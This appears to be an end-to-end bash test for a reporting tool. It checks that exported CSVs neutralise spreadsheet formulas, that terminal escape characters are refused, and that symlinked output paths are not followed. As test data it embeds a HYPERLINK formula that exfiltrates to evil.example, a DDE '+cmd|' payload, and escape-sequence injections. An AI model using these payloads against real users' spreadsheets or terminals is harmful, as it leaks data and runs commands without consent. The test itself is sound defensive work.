#!/usr/bin/env bash
# Issue 10 (items 8, 11, 3) through the real programs: CSV files meant for
# spreadsheets never start a cell with a formula (report template, dispatch
# --csv), output files are written through mkstemp + rename and a planted
# symlink redirects nothing, and the caps on report versions and bytes.
source "$(dirname "$0")/lib.sh"
e2e_start 2018-01-02T09:00:00+08:00
# small caps for item 3 (settings of the running server, not of `init`)
server_down
E2E_SERVER_OPTS+=(--max-report-versions 3 --max-reply-bytes 65536)
server_up
pwadmin unit add jishou --name 吉首市 --category county >/dev/null
echo office111 | pwadmin user add office --role office --password-file - >/dev/null
echo reporter11 | pwadmin user add li --role reporter --unit jishou --password-file - >/dev/null
office() { as office office111 "$@"; }
li() { as li reporter11 "$@"; }

# a plan whose names and units of measure are formulas
cat > "$E2E_DIR/ind.csv" <<'CSV'
indicator_id,level1,level2,level3,unit_of_measure,kind,direction,lead_units,coop_units
C1,住房,棚改,"=HYPERLINK(""http://evil.example/?""&A1,""点我"")",+cmd|' /C calc'!A0,cumulative,up,,
C2,住房,棚改," =1+2",@SUM(1),cumulative,up,,
C3,住房,棚改,-2+3,-,cumulative,up,,
C4,住房,棚改,普通指标,套,cumulative,up,,
CSV
cat > "$E2E_DIR/tg.csv" <<'CSV'
indicator_id,year,unit,target,baseline
C1,2018,jishou,100,
C2,2018,jishou,-5,
C3,2018,jishou,10,
C4,2018,jishou,10,
C1,2018,,200,
C2,2018,,-5,
CSV
expect 0 office plan import --plan p --name 行动计划 --indicators "$E2E_DIR/ind.csv" --targets "$E2E_DIR/tg.csv"

# ---- item 8: no cell of a spreadsheet CSV starts a formula -------------------
# formula_cells FILE: the cells (RFC 4180, via python's csv) that a
# spreadsheet would run: first non-space character = + - @, or TAB / CR
# first, and not a plain number
formula_cells() {
  python3 - "$1" <<'PY'
import csv, sys
bad = []
with open(sys.argv[1], encoding="utf-8-sig", newline="") as f:
    for r, row in enumerate(csv.reader(f), 1):
        for c, cell in enumerate(row, 1):
            s = cell.lstrip(" ")
            if not cell or not (s[:1] in ("=", "+", "-", "@") or cell[0] in "\t\r"):
                continue
            try:
                float(cell)
                continue
            except ValueError:
                bad.append(f"{r}:{c}:{cell}")
print("\n".join(bad))
PY
}
expect 0 li report template --period 2018-01 --out "$E2E_DIR/t.csv"
bad=$(formula_cells "$E2E_DIR/t.csv")
[ -z "$bad" ] && pass || fail "template cells a spreadsheet would run: $bad"
tpl=$(cat "$E2E_DIR/t.csv")
contains "'=HYPERLINK(" "$tpl"
contains "' =1+2" "$tpl"
contains "'@SUM(1)" "$tpl"
contains "C2,' =1+2,'@SUM(1),-5," "$tpl"   # the number -5 is left alone
# the neutralised template still submits
python3 - "$E2E_DIR/t.csv" "$E2E_DIR/filled.csv" <<'PY'
import csv, sys
rows = list(csv.reader(open(sys.argv[1], encoding="utf-8-sig", newline="")))
for r in rows[1:]:
    r[4] = "1"
csv.writer(open(sys.argv[2], "w", encoding="utf-8", newline="")).writerows(rows)
PY
set_clock 2018-02-03T09:00:00+08:00
expect 0 li report submit --period 2018-01 "$E2E_DIR/filled.csv" --progress "开工"

expect 0 office dispatch --period 2018-01 --csv "$E2E_DIR/d.csv"
bad=$(formula_cells "$E2E_DIR/d.csv")
[ -z "$bad" ] && pass || fail "dispatch cells a spreadsheet would run: $bad"
contains "'+cmd|" "$(cat "$E2E_DIR/d.csv")"

# ---- item 9: control characters refused by the server, never printed raw ------------
has_esc() { printf '%s' "$1" | grep -q $'\e' ; }
expect 1 li report submit --period 2018-01 "$E2E_DIR/filled.csv" --progress $'\e]0;pwned\a\e[2J进展'
contains "INVALID_ARGUMENT" "$ERR"
contains "progress: control character U+001B" "$ERR"
has_esc "$ERR" && fail "an escape reached the terminal: $ERR" || pass
expect 1 pwadmin unit add $'x\e[2Jy' --name 区 --category county
has_esc "$ERR" && fail "the server's message carried the caller's escape to the terminal" || pass
expect 1 pwadmin unit add evil --name $'区\e[2J' --category county
contains "U+001B" "$ERR"
[ "$(sqlite3 "$DB" "select count(*) from units where id = 'evil'")" = 0 ] && pass || fail "unit stored"
expect 0 office report show --period 2018-01 --unit jishou
has_esc "$OUT" && fail "report show printed an escape" || pass

# ---- item 3: caps on versions, history in pages ----------------------------------
expect 0 li report submit --period 2018-01 "$E2E_DIR/filled.csv" --progress "第二版"
expect 0 li report submit --period 2018-01 "$E2E_DIR/filled.csv" --progress "第三版"
before=$(sqlite3 "$DB" "select count(*) from report_versions")
expect 1 li report submit --period 2018-01 "$E2E_DIR/filled.csv" --progress "第四版"
contains "max-report-versions" "$ERR"
[ "$(sqlite3 "$DB" "select count(*) from report_versions")" = "$before" ] && pass || fail "4th version stored"
expect 0 office report history --period 2018-01 --unit jishou --page-size 1
contains "version 1 by li" "$OUT"
contains "version 3 by li" "$OUT"
contains "progress text changed" "$OUT"
expect 0 office report history --period 2018-01 --unit jishou --page-size 2 --json
[ "$(echo "$OUT" | python3 -c 'import json,sys; print(len(json.load(sys.stdin)["versions"]))')" = 3 ] \
  && pass || fail "history --json over pages: $OUT"
[ "$(sqlite3 "$DB" "select bytes > 0 from unit_usage where unit_id = 'jishou'")" = 1 ] && pass || fail "unit usage not counted"

# ---- item 11: output files through mkstemp + rename; planted symlinks ----------
echo precious > "$E2E_DIR/victim"
ln -s "$E2E_DIR/victim" "$E2E_DIR/t2.csv.tmp"
expect 0 li report template --period 2018-01 --out "$E2E_DIR/t2.csv"
[ "$(cat "$E2E_DIR/victim")" = precious ] && pass || fail "template write followed t2.csv.tmp"
contains "指标编号" "$(cat "$E2E_DIR/t2.csv")"
ln -s "$E2E_DIR/victim" "$E2E_DIR/d2.csv"            # a symlink at PATH is replaced
expect 0 office dispatch --period 2018-01 --csv "$E2E_DIR/d2.csv"
[ "$(cat "$E2E_DIR/victim")" = precious ] && pass || fail "dispatch write followed d2.csv"
[ -f "$E2E_DIR/d2.csv" ] && [ ! -L "$E2E_DIR/d2.csv" ] && pass || fail "d2.csv is not a file"
# the session file: a secret, 0600, same writer
PLANWATCH_PASSWORD=reporter11 expect 0 pw login --user li
sess=$(ls "$XDG_CONFIG_HOME"/planwatch/session-*)
[ "$(stat -c %a "$sess")" = 600 ] && pass || fail "session file mode $(stat -c %a "$sess")"
rm "$sess"
ln -s "$E2E_DIR/victim" "$sess.tmp"
PLANWATCH_PASSWORD=reporter11 expect 0 pw login --user li
[ "$(cat "$E2E_DIR/victim")" = precious ] && pass || fail "session write followed $sess.tmp"
[ -f "$sess" ] && [ "$(stat -c %a "$sess")" = 600 ] && pass || fail "session file after login"
expect 0 pw whoami
contains "li" "$OUT"
leftovers=$(ls -A "$E2E_DIR" "$XDG_CONFIG_HOME/planwatch" | grep -c 'XXXXXX\|^\.' || true)
[ "$leftovers" = 0 ] && pass || fail "temporary files left: $(ls -A "$E2E_DIR")"

e2e_finish
